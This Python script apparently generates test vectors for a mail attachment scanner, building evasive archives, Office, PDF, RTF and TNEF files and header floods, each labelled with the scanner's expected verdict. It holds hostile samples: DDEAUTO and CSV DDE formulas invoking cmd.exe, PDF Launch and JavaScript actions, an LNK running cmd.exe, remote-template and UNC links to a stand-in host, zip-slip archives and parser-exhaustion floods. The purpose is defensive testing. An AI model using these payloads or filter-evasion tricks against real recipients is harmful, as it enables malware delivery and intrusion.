# SPDX-License-Identifier: GPL-2.0-or-later
"""Vectors 142 to 148 and 159 to 193: pictures, archives, documents, floods. Archives and pictures are those
that tests/archives and tests/picture make, with our payload in them."""
import fnmatch
import gzip
import importlib.util
import io
import os
import struct
import sys
import zipfile

import kit
from kit import CTE, FROM, LETTER, MARK, PAYLOAD, TOP, add, attached, b, b64, carry, file_part, lines, mail, mixed, part, text_mail, zipped

HERE = os.path.dirname(os.path.abspath(__file__))


def sibling(folder):
    """make.py of another folder; ours has the same name."""
    spec = importlib.util.spec_from_file_location(folder + '_make', os.path.join(HERE, '..', folder, 'make.py'))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


archives = sibling('archives')
archives.PAYLOAD = PAYLOAD * 3
WORDS = 'công văn thử nghiệm số mười bảy'


def archive(vector, decided, *patterns):
    # The first one is committed (make.py): let it be one without a time of day or chance in it.
    for pattern in patterns:
        for case in ARCHIVES:
            if fnmatch.fnmatchcase(case.name, pattern) and not case.name.endswith('.eml'):
                how = 'held' if not case.found else decided
                add(vector, case.name, how, carry(case.data, case.name), payload=bool(case.found))


ARCHIVES = list(archives.cases())


def zips_and_others():
    archive(159, 'found', 'c2-concatenated-*', 'c2-nine-*', 'c2-decoy-*')
    archive(160, 'found', 'prefix*', 'suffix*', 'zip-behind-text*', 'c2-in-comment*')
    archive(161, 'found', 'zombie-*')
    archive(162, 'found', 'a1-*', 'a2-*', 'a3-name*', 'a4-encrypted-local*')
    archive(163, 'found', 'c3-*', 'no-directory*', 'no-end*', 'cut-in-end*', 'directory-without*', 'offset-beyond*')
    archive(164, 'found', 'b1-*', 'b4-case*')
    archive(165, 'found', 'c1-overlap*', 'c1-desync*')
    zip_with = archives.locked_zip(b'Mk@2026!')
    add(166, 'no-word', 'held', carry(zip_with), payload=False)
    for name, text in {'english': 'Password: Mk@2026!', 'vietnamese': 'mật khẩu giải nén là: Mk@2026!', 'without-accents': 'mat khau: Mk@2026!',
                       'pass-colon': 'Pass giải nén Mk@2026! nhé', 'quoted': 'open it with "Mk@2026!"'}.items():
        add(166, name, 'found', mixed(part(['Content-Type: text/plain; charset=utf-8', CTE + '8bit'], text + '\r\n'),
                                      kit.file_part(body=b64(zip_with), type_field='Content-Type: application/zip; name=paper.zip')))
    archive(167, 'held', 'locked-names.rar', 'a4-masked*', 'a4-strong*')
    archive(168, 'found', 'method-xz*', 'method-lzma*', 'method-bzip2*', 'method-shrink*', 'method-implode*')
    archive(169, 'held', 'nested-11*')
    archive(169, 'found', 'nested-7*')
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as box:
        for i in range(11000):
            box.writestr(zipfile.ZipInfo(f'{i}.txt'), b'x')
        box.writestr(zipfile.ZipInfo('last.txt'), PAYLOAD)
    add(170, 'members-then-payload', 'held', carry(out.getvalue()))
    archive(171, 'found', 'stored.rar', 'stored5.rar', 'plain.cab', 'stored.lzh', 'plain.tar*', 'plain.txt.gz', 'plain.cpio', 'plain.ar', 'two-members.gz')
    for name, data in {'old.ace': b'\0\0\0\0\0\0\0**ACE**' + bytes(600), 'old.arj': b'\x60\xea\x2b\0' + bytes(600), 'disk.vhd': b'conectix' + bytes(1024),
                       'disk.vhdx': b'vhdxfile' + bytes(2048), 'page.one': bytes.fromhex('e4525c7b8cd8a74daeb15378d02996d3') + bytes(1024),
                       'frame.zst': bytes.fromhex('28b52ffd') + bytes(64)}.items():
        add(171 if not name.endswith(('one', 'vhdx')) else 173, name, 'held', carry(data, name), payload=False)
    archive(172, 'found', 'links.tar', 'slip.tar')
    link = bytes.fromhex('4c0000000114020000000000c000000000000046') + bytes(56) + b'c\0m\0d\0.\0e\0x\0e\0 \0/\0c\0'
    for extension, data in {'lnk': link, 'url': b'[InternetShortcut]\r\nURL=http://vector-payload.example/x\r\n',
                       'library-ms': b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\vector-payload.example\\x</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>'}.items():
        name = 'a.' + extension
        add(173, name, 'held' if extension == 'lnk' else 'tagged', carry(data, name), payload=False)
    archive(182, 'found', 'gifar*', 'sfx-zip*')


def ooxml(main, body, rels='', parts=(), kind='wordprocessingml.document', folder='word/document.xml', types=''):
    """A small OOXML file; parts: (name, content type, bytes)."""
    out = io.BytesIO()
    over = ''.join(f'<Override PartName="/{name}" ContentType="{what}"/>' for name, what, _ in parts)
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as box:
        def put(name, data):
            box.writestr(zipfile.ZipInfo(name), data)
        put('[Content_Types].xml', head + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{folder}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>{over}</Types>')
        put('_rels/.rels', head + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            f'Target="{folder}"/></Relationships>')
        put(folder, head + body)
        if rels:
            at = folder.rsplit('/', 1)
            put(f'{at[0]}/_rels/{at[1]}.rels', head + f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        for name, _, data in parts:
            put(name, data)
    return out.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'


def word(text, rels='', parts=()):
    return ooxml('', f'<w:document {W}><w:body>{text}</w:body></w:document>', rels, parts)


def paragraph(text):
    return f'<w:p><w:r><w:t>{text}</w:t></w:r></w:p>'


def relation(kind, target, outside=False, number=5):
    return f'<Relationship Id="rId{number}" Type="{RELATION}{kind}" Target="{target}"' + (' TargetMode="External"' if outside else '') + '/>'


def documents():
    add(174, 'remote-template', 'tagged', carry(word(paragraph('x'), relation('attachedTemplate', 'http://vector-payload.example/t.dotm', True)), 'a.docx'), payload=False)
    add(174, 'remote-frame', 'tagged', carry(word(paragraph('x'), relation('frame', 'http://vector-payload.example/f', True)), 'a.docx'), payload=False)
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    add(176, 'word-dde', 'held', carry(word(field), 'a.docx'), payload=False)
    add(176, 'word-dde-in-pieces', 'held', carry(word(field.replace('DDEAUTO', 'DDE</w:instrText></w:r><w:r><w:instrText>AUTO')), 'a.docx'), payload=False)
    add(176, 'csv-dde', 'held', carry(b"name,value\r\n=cmd|'/c calc'!A0,1\r\n", 'a.csv', 'text/csv'), payload=False)
    part_of = lambda name, kind, root, text: (f'word/{name}.xml', f'application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml',
                                              f'<?xml version="1.0"?><w:{root} {W}>{text}</w:{root}>')
    for name, kind, root in (('header1', 'header', 'hdr'), ('footer1', 'footer', 'ftr'), ('comments', 'comments', 'comments'),
                             ('footnotes', 'footnotes', 'footnotes'), ('endnotes', 'endnotes', 'endnotes')):
        inner = paragraph(MARK) if root in ('hdr', 'ftr') else f'<w:{root[:-1]} w:id="1">{paragraph(MARK)}</w:{root[:-1]}>'
        add(183, 'docx-' + name, 'found', carry(word(paragraph('x'), relation(kind, name + '.xml'), [part_of(name, kind, root, inner)]), 'a.docx'))
    box = f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>{paragraph(MARK)}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>'
    add(183, 'docx-textbox', 'found', carry(word(box), 'a.docx'))
    add(183, 'docx-altchunk', 'found', carry(word('<w:altChunk r:id="rId5"/>', relation('aFChunk', 'chunk.html'), [('word/chunk.html', 'text/html', f'<html><body>{MARK}</body></html>')]), 'a.docx'))
    add(183, 'docx-custom-xml', 'found', carry(word(paragraph('x'), relation('customXml', '../customXml/item1.xml'), [('customXml/item1.xml', 'application/xml', f'<x>{MARK}</x>')]), 'a.docx'))
    add(183, 'docx-deleted', 'found', carry(word(f'<w:p><w:del><w:r><w:delText>{MARK}</w:delText></w:r></w:del></w:p>'), 'a.docx'))
    add(183, 'docx-hidden', 'found', carry(word(f'<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{MARK}</w:t></w:r></w:p>'), 'a.docx'))
    add(183, 'docx-runs', 'found', carry(word('<w:p>' + ''.join(f'<w:r><w:t>{c}</w:t></w:r>' for c in MARK) + '</w:p>'), 'a.docx'))
    add(183, 'docx-named-txt', 'found', carry(word(paragraph(MARK)), 'a.txt', 'text/plain'))
    sheet = lambda rows: f'<?xml version="1.0"?><worksheet {S}><sheetData>{rows}</sheetData></worksheet>'
    book = lambda state: f'<workbook {S}><sheets><sheet name="a" sheetId="1" r:id="rId5"/><sheet name="b" sheetId="2" state="{state}" r:id="rId6"/></sheets></workbook>'
    sheet_type = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml'
    two = relation('worksheet', 'worksheets/sheet1.xml') + relation('worksheet', 'worksheets/sheet2.xml', number=6)
    inline = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{MARK}</t></is></c></row>'
    shared = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    for state in ('hidden', 'veryHidden'):
        for name, rows in {'inline': inline, 'shared': shared}.items():
            add(184, f'xlsx-{state}-{name}', 'found', carry(ooxml('', book(state), two + relation('sharedStrings', 'sharedStrings.xml', number=7), [
                ('xl/worksheets/sheet1.xml', sheet_type, sheet('')), ('xl/worksheets/sheet2.xml', sheet_type, sheet(rows)),
                ('xl/sharedStrings.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml',
                 f'<?xml version="1.0"?><sst {S}><si><t>{MARK if name == "shared" else "x"}</t></si></sst>')], kind='spreadsheetml.sheet', folder='xl/workbook.xml'), 'a.xlsx'))
    ole = bytes.fromhex('d0cf11e0a1b11ae1')
    add(177, 'encrypted-pdf', 'held', carry(b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44'
            + b'/O<' + b'41' * 32 + b'>/U<' + b'42' * 32 + b'>>>/ID[<00><00>]>>\n%%EOF\n', 'a.pdf'), payload=False)
    add(175, 'damaged-ole', 'held', carry(ole + bytes(600), 'a.doc'), payload=False)
    pdf = (b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R EXTRA>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n'
           b'3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n'
           b'4 0 obj<</Length LENGTH>>stream\nBT /F 12 Tf 72 700 Td (TEXT) Tj ET\nendstream endobj\n'
           b'5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')
    text = pdf.replace(b'LENGTH', b'60').replace(b'EXTRA', b'').replace(b'TEXT', b(MARK))
    add(178, 'pdf-behind-junk', 'found', carry(b'x' * 1500 + b'\n' + text, 'a.pdf'))
    add(178, 'pdf-behind-html', 'found', carry(b'<html><body>letter</body></html>\n' + text, 'a.html'))
    add(178, 'pdf-named-jpg', 'found', carry(text, 'a.jpg', 'image/jpeg'))
    plain = pdf.replace(b'LENGTH', b'33').replace(b'TEXT', b'x')
    for name, extra in {'javascript': b'/OpenAction<</S/JavaScript/JS(app.alert\\("vector"\\))>>', 'launch': b'/OpenAction<</S/Launch/F(cmd.exe)>>',
                        'hex-name': b'/OpenAction<</S/J#61vaScript/JS(x)>>', 'uri': b'/OpenAction<</S/URI/URI(http://vector-payload.example/)>>'}.items():
        add(179, name, 'tagged' if name != 'uri' else 'found', carry(plain.replace(b'EXTRA', extra), 'a.pdf'), payload=name == 'uri')
    embedded = plain.replace(b'EXTRA', b'/Names<</EmbeddedFiles<</Names[(a.txt) 6 0 R]>>>>').replace(
        b'trailer', b'6 0 obj<</Type/Filespec/F(a.txt)/EF<</F 7 0 R>>>>endobj\n7 0 obj<</Type/EmbeddedFile/Length %d>>stream\n' % len(PAYLOAD) + PAYLOAD + b'\nendstream endobj\ntrailer')
    add(179, 'embedded-file', 'found', carry(embedded, 'a.pdf'))
    rtf = lambda body: carry(b'{\\rtf1\\ansi ' + body + b'}', 'a.rtf')
    for name, body in {'plain': b(MARK), 'hex': b''.join(b"\\'%02x" % c for c in b(MARK)), 'unicode': b''.join(b'\\u%d?' % c for c in b(MARK)), 'groups': b''.join(b'{%c}' % c for c in b(MARK)),
                       'unknown-words': b'\\vectorzzz '.join(b(MARK)[i:i + 4] for i in range(0, len(MARK), 4)), 'bin': b'{\\*\\zzz\\bin5 }}}}}}' + b(MARK),
                       'skipped-group': b(MARK[:9]) + b'{\\*\\unknown zzz}' + b(MARK[9:]), 'line-ends': b'\r\n'.join(b(MARK)[i:i + 3] for i in range(0, len(MARK), 3)),
                       'hidden': b'{\\v ' + b(MARK) + b'}', 'header': b'{\\header ' + b(MARK) + b'}', 'note': b'x{\\footnote ' + b(MARK) + b'}'}.items():
        add(181, name, 'found', rtf(body))
    add(181, 'no-version', 'found', carry(b'{\\rt \\ansi ' + b(MARK) + b'}', 'a.rtf'))
    add(181, 'object-update', 'tagged', rtf(b'{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}}'), payload=False)
    data = struct.pack('<II', 0x501, 2) + struct.pack('<I', 8) + b'Package\0' + bytes(8)
    package = struct.pack('<H', 2) + b'a.txt\0a.txt\0' + struct.pack('<HHI', 0, 3, 6) + b'a.txt\0' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD
    package = data + struct.pack('<I', len(package)) + package
    add(181, 'package', 'found', rtf(b'{\\object\\objemb{\\*\\objdata ' + package.hex().encode() + b'}}'))
    add(181, 'package-in-pieces', 'found', rtf(b'{\\object\\objemb{\\*\\objdata ' + b'{\\x}\r\n '.join(package.hex().encode()[i:i + 7] for i in range(0, len(package) * 2, 7)) + b'}}'))
    pgp = '-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0000000000\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n'
    add(185, 'pgp-inline', 'held', mail(['Content-Type: text/plain'], pgp), payload=False)
    add(185, 'pgp-mime', 'held', mail(['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=x'], kit.cut('x', part(['Content-Type: application/pgp-encrypted'], 'Version: 1\r\n'), part(['Content-Type: application/octet-stream'], pgp))), payload=False)
    enveloped = bytes.fromhex('3080' '06092a864886f70d010703' 'a080' '3080' '020100') + bytes(40)
    add(185, 'smime-enveloped', 'held', mail(['Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m', CTE + 'base64'], b64(enveloped)), payload=False)
    inner = archives.tnef('a.txt', PAYLOAD)
    add(186, 'tnef', 'found', carry(inner, 'winmail.dat', 'application/ms-tnef'))
    add(186, 'tnef-nested', 'found', carry(archives.tnef('winmail.dat', inner), 'winmail.dat', 'application/ms-tnef'))
    add(186, 'tnef-with-zip', 'found', carry(archives.tnef('a.zip', zipped()), 'x.bin'))


def floods():
    add(187, 'one-line', 'found', mail(['Content-Type: text/plain'], 'x' * 9_000_000 + ' ' + MARK + '\r\n'))
    add(188, 'many-matches', 'found', mail(['Content-Type: text/plain'], (MARK + ' ') * 20000 + '\r\n'))
    top = [one for one in TOP if not one.startswith('From:')]
    add(189, 'comments', 'refused', mail(['Content-Type: text/plain'], 'x\r\n', top=['From: ' + '(' * 1_000_000 + ' sender@outside.example'] + top), payload=False)
    add(189, 'comments-in-type', 'refused', mail(['Content-Type: ' + '(' * 200_000 + 'text/plain'], MARK + '\r\n'))
    add(190, 'empty-parts', 'refused', mail(['Content-Type: multipart/mixed; boundary=x'], b'--x\r\n\r\n\r\n' * 100_000 + b'--x--\r\n'), payload=False)
    add(191, 'backslashes', 'refused', mail(['Content-Type: text/plain; name="' + '\\' * 300_000 + '"'], MARK + '\r\n'))
    add(191, 'backslashes-short', 'found', mail(['Content-Type: text/plain; name="' + '\\' * 3000 + '"'], MARK + '\r\n'))


zips_and_others()
documents()
floods()
